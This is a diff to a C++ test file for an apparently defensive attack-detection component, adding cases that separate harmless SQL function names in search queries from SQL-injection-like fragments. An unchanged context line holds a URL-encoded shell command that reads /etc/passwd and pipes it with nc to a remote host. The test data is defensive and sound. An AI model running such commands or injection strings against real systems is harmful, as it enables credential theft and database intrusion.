@@ -150,5 +150,15 @@ TEST_F(ContextGradingTest, SourceFileInADocumentIsItsOwnCode) {
   EXPECT_TRUE(get("/run?script=%23!/bin/sh%0Acat%20/etc/passwd%20|%20nc%20198.51.100.7%204444"));
 }
 
+TEST_F(ContextGradingTest, SqlFunctionNamedInASearchIsText) {
+  EXPECT_FALSE(get("/products?q=char%2810%29+in+sql+server"));
+  EXPECT_FALSE(get("/search?q=how+to+use+concat(name)+in+mysql"));
+  // The call alone, with a list, a second call or a clause word around it keeps the finding.
+  EXPECT_TRUE(get("/search?q=chr(123)"));
+  EXPECT_TRUE(get("/search?q=concat(user,password)+from+users"));
+  EXPECT_TRUE(get("/search?q=sleep(5)+then+sleep(5)+again"));
+  EXPECT_TRUE(get("/search?q=ascii(substr)+where+admin"));
+}
+
 } // namespace
 } // namespace bulwark::detect
